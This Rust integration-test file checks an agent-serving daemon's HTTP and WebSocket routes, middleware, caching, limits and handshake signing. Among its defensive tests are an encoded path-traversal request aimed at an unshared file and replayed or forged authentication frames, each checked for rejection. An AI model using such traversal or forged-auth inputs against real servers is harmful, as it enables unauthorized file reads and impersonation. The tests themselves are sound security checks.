//! Agent serving (adf-net, §12.1, §12.3) through the daemon over real HTTP on 127.0.0.1:
//! route lambdas (echo, JSON, binary, error, timeout, bad answer), resolution order, reserved
//! segments, cache and warm behaviour, route middleware, limits, `off`, the idle agent, and
//! an agent loaded from a reference fixture.

use crate::common;

use std::sync::Arc;
use std::time::Duration;

use reqwest::Method;
use serde_json::{Value, json};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};

use adf_server::Agent;
use common::{
    Harness, agent_file, column_texts, file_text, log_rows, logs_of, origin_event_levels, paths,
};

const ROUTES: &str = r#"
export async function echo(req) {
  return { status: 200, body: req };
}
export async function hello(req) {
  return { status: 200, headers: { "x-served-by": "lambda" }, body: "hello from " + req.path };
}
export async function page(req) {
  return { status: 200, headers: { "content-type": "text/html" }, body: "<p>route</p>" };
}
export async function bytes(req) {
  return { status: 200, body: new Uint8Array([0, 1, 2, 255]) };
}
export async function fails(req) {
  throw new Error("route exploded");
}
export async function spins(req) {
  while (true) {}
}
export async function notHttp(req) {
  return "just a string";
}
export async function random(req) {
  return { status: 200, body: String(Math.random()) };
}
export async function counter(req) {
  globalThis.count = (globalThis.count || 0) + 1;
  return { status: 200, body: String(globalThis.count) };
}
export async function created(req) {
  return { status: 201, body: { id: req.params.id, got: req.body } };
}
"#;

fn route(method: &str, path: &str, lambda: &str) -> Value {
    json!({ "method": method, "path": path, "lambda": format!("lib/routes.ts:{lambda}") })
}

/// A client that sends no token: agent routes are public.
fn public_client() -> reqwest::Client {
    adf_egress::service_client(adf_egress::ClientOptions::default()).unwrap()
}

async fn load(h: &Harness, path: &std::path::Path) -> Arc<Agent> {
    h.server.daemon.load(path).await.unwrap().agent
}

/// An agent `web` with the routes file, `api` as its routes and `extra` config paths.
async fn web_agent(
    h: &Harness,
    api: Value,
    files: &[(&str, &str)],
    extra: &[(&str, Value)],
) -> Arc<Agent> {
    let mut all_files = vec![("lib/routes.ts", ROUTES)];
    all_files.extend_from_slice(files);
    let mut config = vec![("handle", json!("web")), ("serving.api", api)];
    config.extend(extra.iter().cloned());
    let path = agent_file(h.dir.path(), "web", &all_files, &config);
    load(h, &path).await
}

struct Got {
    status: u16,
    content_type: String,
    headers: reqwest::header::HeaderMap,
    body: Vec<u8>,
}

impl Got {
    fn text(&self) -> String {
        String::from_utf8_lossy(&self.body).into_owned()
    }
    fn json(&self) -> Value {
        serde_json::from_slice(&self.body).unwrap_or(Value::Null)
    }
}

async fn request(h: &Harness, method: Method, path: &str, body: Option<(&str, Vec<u8>)>) -> Got {
    // Agent content is served on its own port, never the control port (issue 28 finding 3).
    request_at(&h.server.serve_url(), method, path, body).await
}

async fn request_at(base: &str, method: Method, path: &str, body: Option<(&str, Vec<u8>)>) -> Got {
    let mut builder = public_client().request(method, format!("{base}{path}"));
    builder = builder.header("x-test", "yes");
    if let Some((content_type, bytes)) = body {
        builder = builder.header("content-type", content_type).body(bytes);
    }
    let response = tokio::time::timeout(Duration::from_secs(60), builder.send())
        .await
        .expect("the request answered")
        .unwrap();
    let status = response.status().as_u16();
    let headers = response.headers().clone();
    let content_type = headers
        .get("content-type")
        .and_then(|v| v.to_str().ok())
        .unwrap_or_default()
        .to_owned();
    let body = response.bytes().await.unwrap().to_vec();
    Got {
        status,
        content_type,
        headers,
        body,
    }
}

async fn get(h: &Harness, path: &str) -> Got {
    request(h, Method::GET, path, None).await
}

#[tokio::test]
async fn srv_05_route_lambda_receives_http_request_and_answers_without_a_token() {
    let h = Harness::start().await;
    web_agent(
        &h,
        json!([
            route("POST", "/items/:id", "echo"),
            route("GET", "/hello", "hello")
        ]),
        &[],
        &[],
    )
    .await;
    let hello = get(&h, "/agents/web/hello").await;
    assert_eq!(hello.status, 200);
    assert_eq!(hello.text(), "hello from /hello");
    assert_eq!(hello.content_type, "text/plain; charset=utf-8");
    assert_eq!(hello.headers["x-served-by"], "lambda");

    let echoed = request(
        &h,
        Method::POST,
        "/agents/web/items/42?sort=asc&q=two%20words",
        Some(("application/json", br#"{"name":"x"}"#.to_vec())),
    )
    .await;
    assert_eq!(echoed.status, 200, "{}", echoed.text());
    assert_eq!(echoed.content_type, "application/json");
    let req = echoed.json();
    assert_eq!(req["method"], "POST");
    assert_eq!(req["path"], "/items/42");
    assert_eq!(req["params"], json!({ "id": "42" }));
    assert_eq!(req["query"], json!({ "sort": "asc", "q": "two words" }));
    assert_eq!(req["headers"]["x-test"], "yes");
    assert_eq!(req["body"], json!({ "name": "x" }));

    let text = request(
        &h,
        Method::POST,
        "/agents/web/items/7",
        Some(("text/plain", b"plain words".to_vec())),
    )
    .await;
    assert_eq!(text.json()["body"], "plain words");
    h.stop().await;
}

#[tokio::test]
async fn srv_05_json_binary_error_timeout_and_bad_answers() {
    let h = Harness::start().await;
    web_agent(
        &h,
        json!([
            route("PUT", "/things/{id}", "created"),
            route("GET", "/bytes", "bytes"),
            route("GET", "/fails", "fails"),
            route("GET", "/spins", "spins"),
            route("GET", "/not-http", "notHttp"),
        ]),
        &[],
        &[("limits.execution_timeout_ms", json!(300))],
    )
    .await;
    let created = request(
        &h,
        Method::PUT,
        "/agents/web/things/a1",
        Some(("application/json", b"[1,2]".to_vec())),
    )
    .await;
    assert_eq!(created.status, 201);
    assert_eq!(created.json(), json!({ "id": "a1", "got": [1, 2] }));

    let bytes = get(&h, "/agents/web/bytes").await;
    assert_eq!(bytes.status, 200);
    assert_eq!(bytes.body, vec![0, 1, 2, 255]);
    assert_eq!(bytes.content_type, "application/octet-stream");

    let fails = get(&h, "/agents/web/fails").await;
    assert_eq!(fails.status, 500);
    assert_eq!(fails.json()["code"], "LAMBDA_ERROR");
    assert!(
        fails.json()["error"]
            .as_str()
            .unwrap()
            .contains("route exploded")
    );

    let spins = get(&h, "/agents/web/spins").await;
    assert_eq!(spins.status, 504, "{}", spins.text());
    assert_eq!(spins.json()["code"], "LAMBDA_TIMEOUT");

    let not_http = get(&h, "/agents/web/not-http").await;
    assert_eq!(not_http.status, 502);
    assert_eq!(not_http.json()["code"], "INVALID_ROUTE_RESPONSE");

    let bad_json = request(
        &h,
        Method::PUT,
        "/agents/web/things/a1",
        Some(("application/json", b"{".to_vec())),
    )
    .await;
    assert_eq!(bad_json.status, 400);
    assert_eq!(bad_json.json()["code"], "BAD_REQUEST");
    h.stop().await;
}

#[tokio::test]
async fn srv_01_resolution_is_api_then_public_then_shared_then_404() {
    let h = Harness::start().await;
    web_agent(
        &h,
        json!([
            route("GET", "/page.html", "page"),
            route("POST", "/only-post", "echo")
        ]),
        &[
            ("public/index.html", "<h1>index</h1>"),
            ("public/page.html", "<p>public file</p>"),
            ("public/docs/index.html", "<p>docs</p>"),
            ("reports/week.html", "<p>report</p>"),
            ("secret.md", "not shared"),
        ],
        &[
            ("serving.public", json!({ "enabled": true })),
            (
                "serving.shared",
                json!({ "enabled": true, "patterns": ["reports/*.html"] }),
            ),
        ],
    )
    .await;
    let index = get(&h, "/agents/web/").await;
    assert_eq!(index.status, 200);
    assert_eq!(index.text(), "<h1>index</h1>");
    assert!(
        index.content_type.starts_with("text/html"),
        "{}",
        index.content_type
    );
    assert_eq!(get(&h, "/agents/web/docs/").await.text(), "<p>docs</p>");
    // The same path in api and public: the route wins.
    assert_eq!(
        get(&h, "/agents/web/page.html").await.text(),
        "<p>route</p>"
    );
    assert_eq!(
        get(&h, "/agents/web/reports/week.html").await.text(),
        "<p>report</p>"
    );
    let secret = get(&h, "/agents/web/secret.md").await;
    assert_eq!(secret.status, 404);
    assert_eq!(secret.json()["code"], "NOT_FOUND");
    // The client may fold the dot segments itself; either way the file stays unserved.
    let traversal = get(&h, "/agents/web/reports/%2e%2e/secret.md").await;
    assert!(
        matches!(traversal.status, 400 | 404),
        "{}",
        traversal.status
    );
    assert_ne!(traversal.text(), "not shared");
    let wrong_method = get(&h, "/agents/web/only-post").await;
    assert_eq!(wrong_method.status, 405);
    assert_eq!(wrong_method.headers["allow"], "POST");
    let unknown = get(&h, "/agents/nobody/x").await;
    assert_eq!(unknown.status, 404);
    assert_eq!(unknown.json()["code"], "AGENT_NOT_FOUND");
    h.stop().await;
}

#[tokio::test]
async fn srv_07_a_fresh_agent_serves_nothing() {
    let h = Harness::start().await;
    let path = agent_file(
        h.dir.path(),
        "plain",
        &[("public/index.html", "<h1>hidden</h1>")],
        &[("handle", json!("plain"))],
    );
    load(&h, &path).await;
    for path in [
        "/agents/plain/",
        "/agents/plain/index.html",
        "/agents/plain/README.md",
    ] {
        let got = get(&h, path).await;
        assert_eq!(got.status, 404, "{path}");
        assert_eq!(got.json()["code"], "NOT_FOUND");
    }
    h.stop().await;
}

#[tokio::test]
async fn srv_02_reserved_segments_never_serve_routes_or_files() {
    let h = Harness::start().await;
    web_agent(
        &h,
        json!([]),
        &[
            ("public/card", "file named card"),
            ("public/health/x.html", "<p>under health</p>"),
        ],
        &[("serving.public", json!({ "enabled": true }))],
    )
    .await;
    // The mesh endpoints are the daemon's, on the control port where other runtimes dial them.
    let control = h.server.url();
    let card = request_at(&control, Method::GET, "/agents/web/card", None).await;
    assert_eq!(card.status, 200);
    assert_eq!(card.json()["handle"], "web", "the card, not the file");
    let health = request_at(&control, Method::GET, "/agents/web/health", None).await;
    assert_eq!(health.json()["ok"], true);
    // On the serving port the reserved names serve nothing of the agent's.
    for path in [
        "/agents/web/card",
        "/agents/web/health",
        "/agents/web/health/x.html",
    ] {
        let got = get(&h, path).await;
        assert_eq!(got.status, 404, "{path}");
        assert!(!got.text().contains("under health"), "{path}");
        assert!(!got.text().contains("file named card"), "{path}");
    }
    // Control routes under the agent still need the token, and only the control port has them.
    let status = request_at(&control, Method::GET, "/agents/web/status", None).await;
    assert_eq!(status.status, 401);
    assert_eq!(get(&h, "/agents/web/status").await.status, 404);
    h.stop().await;
}

#[tokio::test]
async fn srv_08_cache_ttl_answers_from_the_cache_and_warm_keeps_the_context() {
    let h = Harness::start().await;
    let mut cached = route("GET", "/cached", "random");
    cached["cache_ttl_ms"] = json!(600_000);
    let mut warm = route("GET", "/warm", "counter");
    warm["warm"] = json!(true);
    let agent = web_agent(
        &h,
        json!([
            cached,
            route("GET", "/fresh", "random"),
            warm,
            route("GET", "/cold", "counter")
        ]),
        &[],
        &[],
    )
    .await;
    let first = get(&h, "/agents/web/cached").await.text();
    let second = get(&h, "/agents/web/cached").await.text();
    assert_eq!(first, second);
    assert_ne!(
        get(&h, "/agents/web/fresh").await.text(),
        get(&h, "/agents/web/fresh").await.text()
    );
    let runs: Vec<String> = logs_of(&agent, "lambda")
        .await
        .into_iter()
        .filter(|row| row.event.as_deref() == Some("execute"))
        .map(|row| row.target.unwrap())
        .collect();
    assert_eq!(
        runs.iter()
            .filter(|t| t.as_str() == "lib/routes.ts:random")
            .count(),
        3,
        "one run for the two cached requests, two for the uncached: {runs:?}"
    );
    assert_eq!(get(&h, "/agents/web/warm").await.text(), "1");
    assert_eq!(get(&h, "/agents/web/warm").await.text(), "2");
    assert_eq!(get(&h, "/agents/web/cold").await.text(), "1");
    assert_eq!(get(&h, "/agents/web/cold").await.text(), "1");
    let logged: Vec<String> = logs_of(&agent, "serving")
        .await
        .into_iter()
        .filter(|row| row.event.as_deref() == Some("api_response"))
        .map(|row| row.message)
        .collect();
    assert!(logged.iter().any(|m| m == "GET /warm → 200"), "{logged:?}");
    h.stop().await;
}

const MIDDLEWARE: &str = r#"
export async function check(input) {
  if (input.point !== "route") return { reject: { code: 500, reason: "wrong point " + input.point } };
  if (input.data.headers["x-key"] !== "open-sesame") return { reject: { code: 401, reason: "no key" } };
  const data = input.data;
  data.headers["x-user"] = "alice";
  return { data };
}
"#;

#[tokio::test]
async fn route_middleware_rejects_passes_changes_and_skips_unauthorized_files() {
    let h = Harness::start().await;
    let mut guarded = route("GET", "/guarded", "echo");
    guarded["middleware"] = json!([{ "lambda": "lib/auth.ts:check" }]);
    let mut skipped = route("GET", "/skipped", "echo");
    skipped["middleware"] = json!([{ "lambda": "lib/unvetted.ts:check" }]);
    let mut broken = route("GET", "/broken", "echo");
    broken["middleware"] = json!([{ "lambda": "lib/missing.ts:check" }]);
    let path = agent_file(
        h.dir.path(),
        "web",
        &[
            ("lib/routes.ts", ROUTES),
            ("lib/auth.ts", MIDDLEWARE),
            ("lib/unvetted.ts", MIDDLEWARE),
        ],
        &[
            ("handle", json!("web")),
            ("serving.api", json!([guarded, skipped, broken])),
        ],
    );
    {
        let mut file = adf_store::AdfFile::open(&path).unwrap();
        file.file_set_authorized(adf_store::Caller::Owner, "lib/auth.ts", true)
            .unwrap();
        file.close().unwrap();
    }
    let agent = load(&h, &path).await;
    let refused = get(&h, "/agents/web/guarded").await;
    assert_eq!(refused.status, 401);
    assert_eq!(refused.json()["code"], "MIDDLEWARE_REJECTED");
    assert_eq!(refused.json()["error"], "no key");

    let passed = public_client()
        .get(format!("{}/agents/web/guarded", h.server.serve_url()))
        .header("x-key", "open-sesame")
        .send()
        .await
        .unwrap();
    assert_eq!(passed.status(), 200);
    let seen: Value = passed.json().await.unwrap();
    assert_eq!(
        seen["headers"]["x-user"], "alice",
        "the lambda saw the changed request"
    );

    // An unauthorized middleware file is skipped (and logged), never run.
    let through = get(&h, "/agents/web/skipped").await;
    assert_eq!(through.status, 200);
    assert!(through.json()["headers"].get("x-user").is_none());
    let skips: Vec<String> = logs_of(&agent, "middleware")
        .await
        .into_iter()
        .filter(|row| row.event.as_deref() == Some("middleware_skipped"))
        .map(|row| row.target.unwrap())
        .collect();
    assert_eq!(skips, vec!["lib/unvetted.ts:check"]);

    // A chain that cannot run fails closed.
    let broken = get(&h, "/agents/web/broken").await;
    assert_eq!(broken.status, 500);
    h.stop().await;
}

/// A hand-written request with a declared body length and no body.
async fn declared_length(addr: std::net::SocketAddr, path: &str, length: usize) -> u16 {
    let head = format!(
        "POST {path} HTTP/1.1\r\nHost: {addr}\r\nConnection: close\r\nContent-Type: application/json\r\nContent-Length: {length}\r\n\r\n"
    );
    let mut stream = tokio::net::TcpStream::connect(addr).await.unwrap();
    stream.write_all(head.as_bytes()).await.unwrap();
    let mut raw = Vec::new();
    let mut buffer = [0u8; 1024];
    // The answer comes before the body: read until the status line is complete.
    while !raw.windows(2).any(|w| w == b"\r\n") {
        let read = stream.read(&mut buffer).await.unwrap();
        if read == 0 {
            break;
        }
        raw.extend_from_slice(&buffer[..read]);
    }
    String::from_utf8_lossy(&raw)
        .split_whitespace()
        .nth(1)
        .and_then(|s| s.parse().ok())
        .unwrap_or(0)
}

#[tokio::test]
async fn an_oversized_body_is_refused_before_it_is_read() {
    let h = Harness::start().await;
    web_agent(&h, json!([route("POST", "/in", "echo")]), &[], &[]).await;
    let limit = h.server.daemon.serving().unwrap().limits().max_body_bytes;
    assert_eq!(
        declared_length(h.server.serve_addr, "/agents/web/in", limit + 1).await,
        413
    );
    h.stop().await;
}

#[tokio::test]
async fn stl_04_turning_an_agent_off_closes_its_websockets_and_serves_nothing() {
    let h = Harness::start().await;
    let mut warm = route("GET", "/warm", "counter");
    warm["warm"] = json!(true);
    let agent = web_agent(
        &h,
        json!([warm, { "method": "WS", "path": "/live", "lambda": "lib/ws.ts:on" }]),
        &[("lib/ws.ts", WS_LAMBDA)],
        &[],
    )
    .await;
    assert_eq!(get(&h, "/agents/web/warm").await.text(), "1");
    let mut socket = ws_open(&h, "/agents/web/live").await;
    assert_eq!(ws_json(&mut socket).await["type"], "open");
    let serving = h.server.daemon.serving().unwrap();
    assert_eq!(serving.holding(), vec![agent.id.clone()]);
    common::set_state(&h, &agent, "off").await;
    assert!(serving.holding().is_empty(), "the warm sandbox was dropped");
    assert_eq!(
        ws_next(&mut socket).await,
        Err(1001),
        "the WebSocket closed"
    );
    let off = get(&h, "/agents/web/warm").await;
    assert_eq!(off.status, 503);
    assert_eq!(off.json()["code"], "AGENT_OFF");
    assert!(serving.holding().is_empty());
    common::set_state(&h, &agent, "active").await;
    assert_eq!(
        get(&h, "/agents/web/warm").await.text(),
        "1",
        "a new context"
    );
    h.server.daemon.unload(&agent.id).await.unwrap();
    assert!(serving.holding().is_empty());
    h.stop().await;
}

#[tokio::test]
async fn an_idle_agent_with_released_file_serves_its_routes() {
    let h = Harness::start().await;
    let agent = web_agent(&h, json!([route("GET", "/hello", "hello")]), &[], &[]).await;
    assert!(
        agent.store().wait_until_released(Duration::from_secs(60)),
        "the daemon releases a loaded agent's file"
    );
    assert!(!agent.store().is_open());
    let hello = get(&h, "/agents/web/hello").await;
    assert_eq!(hello.text(), "hello from /hello");
    h.stop().await;
}

#[tokio::test]
async fn a_reference_fixture_serves_its_lib_routes_lambda_and_public_index() {
    let h = Harness::start().await;
    let path = h.copy_fixture("populated-runtime.adf", "reference.adf");
    let agent = load(&h, &path).await;
    let key = agent.id.clone();
    for (path, content) in [
        ("lib/routes.ts", ROUTES),
        ("public/index.html", "<h1>reference agent</h1>"),
    ] {
        h.client
            .call(
                Method::PUT,
                &format!("/agents/{key}/files/content?path={path}"),
                Some(&json!({ "content": content })),
            )
            .await
            .unwrap();
    }
    let mut config = h
        .client
        .get(&format!("/agents/{key}/config"))
        .await
        .unwrap()["config"]
        .clone();
    config["serving"]["api"] = json!([route("GET", "/hello", "hello")]);
    config["serving"]["public"] = json!({ "enabled": true });
    h.client
        .call(Method::PUT, &format!("/agents/{key}/config"), Some(&config))
        .await
        .unwrap();
    let hello = get(&h, &format!("/agents/{key}/hello")).await;
    assert_eq!(hello.status, 200, "{}", hello.text());
    assert_eq!(hello.text(), "hello from /hello");
    let index = get(&h, &format!("/agents/{key}/")).await;
    assert_eq!(index.text(), "<h1>reference agent</h1>");
    h.stop().await;
}

// ---------------------------------------------------------------------------------------------
// WebSockets (§12.2)

use futures::{SinkExt as _, StreamExt as _};
use tokio_tungstenite::tungstenite::Message as WsMessage;

type Socket =
    tokio_tungstenite::WebSocketStream<tokio_tungstenite::MaybeTlsStream<tokio::net::TcpStream>>;

async fn ws_open(h: &Harness, path: &str) -> Socket {
    let url = format!("ws://{}{path}", h.server.serve_addr);
    let (socket, _) = tokio::time::timeout(
        Duration::from_secs(60),
        tokio_tungstenite::connect_async(url),
    )
    .await
    .expect("the upgrade answered")
    .unwrap();
    socket
}

/// The next text frame, or the close code when the server closed instead.
async fn ws_next(socket: &mut Socket) -> Result<String, u16> {
    loop {
        let next = tokio::time::timeout(Duration::from_secs(60), socket.next())
            .await
            .expect("the server answered");
        match next {
            Some(Ok(WsMessage::Text(text))) => return Ok(text.to_string()),
            Some(Ok(WsMessage::Close(frame))) => {
                return Err(frame.map_or(1005, |f| u16::from(f.code)));
            }
            Some(Ok(_)) => continue,
            Some(Err(_)) | None => return Err(1006),
        }
    }
}

async fn ws_json(socket: &mut Socket) -> Value {
    serde_json::from_str(&ws_next(socket).await.unwrap()).unwrap()
}

/// The agent `handle`'s file with `source` as its one file and one WS route at `route` whose
/// lambda is the source's `on`, plus the `extra` config.
fn ws_lambda_agent(
    h: &Harness,
    handle: &str,
    source: (&str, &str),
    route: &str,
    extra: &[(&str, Value)],
) -> std::path::PathBuf {
    let mut config = vec![
        ("handle", json!(handle)),
        (
            "serving.api",
            json!([{ "method": "WS", "path": route, "lambda": format!("{}:on", source.0) }]),
        ),
    ];
    config.extend(extra.iter().cloned());
    agent_file(h.dir.path(), handle, &[source], &config)
}

const WS_LAMBDA: &str = r#"
export async function on(event) {
  if (event.type === "close") {
    await adf.fs_write({ path: "ws/closed.json", content: JSON.stringify(event), mode: "write" });
    return null;
  }
  return event;
}
"#;

#[tokio::test]
async fn srv_04_srv_13_a_ws_route_lambda_gets_open_message_and_close_events() {
    let h = Harness::start().await;
    let path = ws_lambda_agent(&h, "web", ("lib/ws.ts", WS_LAMBDA), "/live", &[]);
    let agent = load(&h, &path).await;
    let mut socket = ws_open(&h, "/agents/web/live").await;
    let open = ws_json(&mut socket).await;
    assert_eq!(open["type"], "open");
    let id = open["connection_id"].as_str().unwrap().to_owned();
    assert!(id.starts_with("ws_"), "{open}");
    assert!(open["timestamp"].as_i64().unwrap() > 0);
    let serving = h.server.daemon.serving().unwrap();
    assert_eq!(serving.connections(&agent.id)[0].id, id);

    socket
        .send(WsMessage::Text("hi there".into()))
        .await
        .unwrap();
    let message = ws_json(&mut socket).await;
    assert_eq!(message["type"], "message");
    assert_eq!(message["data"], "hi there");
    assert_eq!(message["connection_id"], id.as_str());

    socket.close(None).await.unwrap();
    common::wait_for("the close event", || async {
        !common::paths(&agent, "ws/closed.json").await.is_empty()
    })
    .await;
    let closed: Value =
        serde_json::from_str(&file_text(&agent, "ws/closed.json").await.unwrap()).unwrap();
    assert_eq!(closed["type"], "close");
    assert_eq!(closed["connection_id"], id.as_str());
    assert!(serving.connections(&agent.id).is_empty());

    // A plain GET to the WS path is no route; an upgrade elsewhere finds none.
    assert_eq!(get(&h, "/agents/web/live").await.status, 404);
    let url = format!("ws://{}/agents/web/other", h.server.serve_addr);
    assert!(tokio_tungstenite::connect_async(url).await.is_err());
    h.stop().await;
}

/// Pushes `req.query.data` to the inbound connection `req.query.id` (`ws_send`), or closes
/// it (`ws_disconnect`) when `req.query.close` is set; answers what the tools returned.
const WS_PUSH: &str = r#"
export async function push(req) {
  const inbound = await adf.ws_connections({ direction: "inbound" });
  if (req.query.close) {
    const closed = await adf.ws_disconnect({ connection_id: req.query.id });
    return { status: 200, body: { inbound, closed } };
  }
  const sent = await adf.ws_send({ connection_id: req.query.id, data: req.query.data });
  return { status: 200, body: { inbound, sent } };
}
"#;

#[tokio::test]
async fn srv_31_srv_32_ws_send_and_ws_disconnect_reach_an_inbound_connection() {
    let h = Harness::start().await;
    let path = agent_file(
        h.dir.path(),
        "web",
        &[("lib/ws.ts", WS_LAMBDA), ("lib/push.ts", WS_PUSH)],
        &[
            ("handle", json!("web")),
            (
                "serving.api",
                json!([
                    { "method": "WS", "path": "/live", "lambda": "lib/ws.ts:on" },
                    { "method": "GET", "path": "/push", "lambda": "lib/push.ts:push" }
                ]),
            ),
            ("tools.ws_send.enabled", json!(true)),
            ("tools.ws_disconnect.enabled", json!(true)),
            ("tools.ws_connections.enabled", json!(true)),
        ],
    );
    load(&h, &path).await;
    let mut socket = ws_open(&h, "/agents/web/live").await;
    let open = ws_json(&mut socket).await;
    let id = open["connection_id"].as_str().unwrap().to_owned();

    let pushed = get(&h, &format!("/agents/web/push?id={id}&data=from-the-agent")).await;
    assert_eq!(pushed.status, 200, "{}", pushed.text());
    let body = pushed.json();
    assert_eq!(body["sent"]["sent"], true, "{body}");
    let listed = body["inbound"]["connections"].as_array().unwrap();
    assert_eq!(listed.len(), 1, "{body}");
    assert_eq!(listed[0]["connection_id"], id.as_str());
    assert_eq!(ws_next(&mut socket).await, Ok("from-the-agent".to_owned()));

    let unknown = get(&h, "/agents/web/push?id=ws_nobody&data=x").await;
    assert_ne!(unknown.status, 200, "{}", unknown.text());

    let closed = get(&h, &format!("/agents/web/push?id={id}&close=1")).await;
    assert_eq!(closed.json()["closed"]["ok"], true, "{}", closed.text());
    assert_eq!(ws_next(&mut socket).await, Err(1000));
    h.stop().await;
}

/// The echo server of issue 29 finding 6: answers each message with `ws_send` on the
/// connection whose event it handles, and returns nothing.
const WS_ECHO: &str = r#"
export async function on(e) {
  if (e.type === "message") {
    await adf.ws_send({ connection_id: e.connection_id, data: "echo: " + e.data });
    await adf.ws_send({ connection_id: e.connection_id, data: "again: " + e.data });
  }
  return null;
}
"#;

#[tokio::test]
async fn srv_31_a_ws_lambda_answers_with_ws_send_on_its_own_connection() {
    let h = Harness::start().await;
    let path = ws_lambda_agent(
        &h,
        "web",
        ("lib/echo.ts", WS_ECHO),
        "/echo",
        &[("tools.ws_send.enabled", json!(true))],
    );
    load(&h, &path).await;
    let mut socket = ws_open(&h, "/agents/web/echo").await;
    for word in ["one", "two"] {
        socket.send(WsMessage::Text(word.into())).await.unwrap();
        // Well below the lambda's 30 s limit: a handler stuck until its timeout fails here.
        for expected in [format!("echo: {word}"), format!("again: {word}")] {
            let got = tokio::time::timeout(Duration::from_secs(10), ws_next(&mut socket))
                .await
                .expect("the echo arrived while the handler ran");
            assert_eq!(got, Ok(expected));
        }
    }
    socket.close(None).await.unwrap();
    h.stop().await;
}

fn alf_message(to: &str, content: &str) -> Value {
    json!({
        "version": "1.0", "network": "devnet",
        "id": adf_store::defaults::random_id(20),
        "timestamp": "2026-12-01T00:00:00.000Z",
        "from": "did:key:z6MkhaXgBZDvotDkL5257faiztiGiC2QtKLGpbnnEGta2doK", "to": to,
        "payload": { "meta": {}, "sender_alias": "peer", "content_type": "text/plain",
                     "content": content, "sent_at": "2026-12-01T00:00:00.000Z" }
    })
}

/// Every inbox column but the ones a new message or arrival must change, ALF id removed.
async fn comparable_rows(agent: &Agent) -> Vec<Value> {
    const COMPARED: [&str; 20] = [
        "from",
        "to",
        "reply_to",
        "network",
        "parent_id",
        "subject",
        "content",
        "content_type",
        "attachments",
        "meta",
        "sender_alias",
        "recipient_alias",
        "owner",
        "card",
        "return_path",
        "source",
        "source_context",
        "sent_at",
        "status",
        "original_message",
    ];
    let mut rows = common::table_rows(agent, "adf_inbox").await;
    rows.sort_by_key(|row| row["received_at"].as_i64());
    rows.into_iter()
        .map(|row| {
            let mut compared = serde_json::Map::new();
            for column in COMPARED {
                compared.insert(column.to_owned(), row[column].clone());
            }
            // The original message without its id, which differs per delivery.
            if let Some(text) = row["original_message"].as_str() {
                let mut original: Value = serde_json::from_str(text).unwrap();
                if let Some(object) = original.as_object_mut() {
                    object.shift_remove("id");
                }
                compared.insert("original_message".to_owned(), original);
            }
            Value::Object(compared)
        })
        .collect()
}

#[tokio::test]
async fn msg_50_srv_14_alf_over_a_ws_route_is_stored_like_an_http_delivery() {
    let h = Harness::start().await;
    let path = agent_file(
        h.dir.path(),
        "web",
        &[],
        &[
            ("handle", json!("web")),
            ("serving.api", json!([{ "method": "WS", "path": "/mesh" }])),
        ],
    );
    let agent = load(&h, &path).await;
    let mut socket = ws_open(&h, "/agents/web/mesh").await;
    socket
        .send(WsMessage::Text(
            alf_message("web", "same words").to_string().into(),
        ))
        .await
        .unwrap();
    let ack = ws_json(&mut socket).await;
    assert_eq!(ack["type"], "ack", "{ack}");
    assert_eq!(ack["accepted"], true);
    let (status, body) = h
        .client
        .raw(
            Method::POST,
            "/agents/web/inbox",
            Some(&alf_message("web", "same words")),
        )
        .await
        .unwrap();
    assert_eq!(status, 202, "{body}");
    let rows = comparable_rows(&agent).await;
    assert_eq!(rows.len(), 2);
    assert_eq!(rows[0], rows[1], "WS and HTTP rows differ");

    // Two messages in one frame: closed with 4003, nothing stored.
    let pair = json!([alf_message("web", "a"), alf_message("web", "b")]);
    socket
        .send(WsMessage::Text(pair.to_string().into()))
        .await
        .unwrap();
    assert_eq!(ws_next(&mut socket).await, Err(4003));
    assert_eq!(comparable_rows(&agent).await.len(), 2);
    h.stop().await;
}

fn client_key() -> adf_crypto::SigningKey {
    adf_crypto::SigningKey::from_bytes(&rand::random())
}

#[tokio::test]
async fn msg_51_msg_52_the_ws_handshake_verifies_signed_clients_and_stamps_unsigned_ones() {
    let h = Harness::start().await;
    let strict_path = ws_lambda_agent(
        &h,
        "strict",
        ("lib/ws.ts", WS_LAMBDA),
        "/live",
        &[("security.allow_unsigned", json!(false))],
    );
    {
        // An identity, so the answer carries the agent's own signature (mutual, MSG-51).
        common::provision_identity(&h, &strict_path);
    }
    load(&h, &strict_path).await;
    let key = client_key();
    let now = adf_store::time::now_ms();

    // Good: the answer, then the lambda's open event carrying the proven DID.
    let mut good = ws_open(&h, "/agents/strict/live").await;
    let frame = adf_net::handshake::client_frame(&key, "00aa", now);
    good.send(WsMessage::Text(frame.to_string().into()))
        .await
        .unwrap();
    let answer = ws_json(&mut good).await;
    assert_eq!(answer["type"], "auth_result");
    assert_eq!(answer["success"], true, "{answer}");
    assert_eq!(answer["nonce"], "00aa");
    let server_did = answer["server_did"].as_str().unwrap();
    assert_eq!(
        server_did,
        h.server.daemon.agent("strict").unwrap().info().did.unwrap()
    );
    let server_key = adf_crypto::verifying_key_from_did(server_did).unwrap();
    adf_crypto::verify(
        &server_key,
        format!("{server_did}00aa{now}").as_bytes(),
        answer["signature"].as_str().unwrap(),
        "server answer",
    )
    .unwrap();
    let open = ws_json(&mut good).await;
    assert_eq!(open["remote_did"], frame["did"]);

    // A replayed (old) timestamp, a frame for another DID, and no auth at all: 4001.
    let stale = adf_net::handshake::client_frame(&key, "00bb", now - 60_000);
    let mut forged = adf_net::handshake::client_frame(&key, "00cc", now);
    forged["did"] = json!(adf_crypto::did_from_public(&client_key().verifying_key()));
    for bad in [stale, forged, json!({ "type": "message", "data": "hi" })] {
        let mut socket = ws_open(&h, "/agents/strict/live").await;
        socket
            .send(WsMessage::Text(bad.to_string().into()))
            .await
            .unwrap();
        let refusal = ws_json(&mut socket).await;
        assert_eq!(refusal["success"], false, "{refusal}");
        assert_eq!(ws_next(&mut socket).await, Err(4001));
    }

    // allow_unsigned (the default): an auth frame is optional and taken unverified.
    let open_path = ws_lambda_agent(&h, "open", ("lib/ws.ts", WS_LAMBDA), "/live", &[]);
    load(&h, &open_path).await;
    let mut lax = ws_open(&h, "/agents/open/live").await;
    assert_eq!(ws_json(&mut lax).await["type"], "open");
    let unsigned = json!({ "type": "auth", "did": frame["did"], "nonce": "1", "timestamp": 0 });
    lax.send(WsMessage::Text(unsigned.to_string().into()))
        .await
        .unwrap();
    assert_eq!(ws_json(&mut lax).await["success"], true);
    lax.send(WsMessage::Text("after".into())).await.unwrap();
    let message = ws_json(&mut lax).await;
    assert_eq!(message["remote_did"], frame["did"]);
    h.stop().await;
}

// ---------------------------------------------------------------------------------------------
// Outbound WebSockets (§5.15)

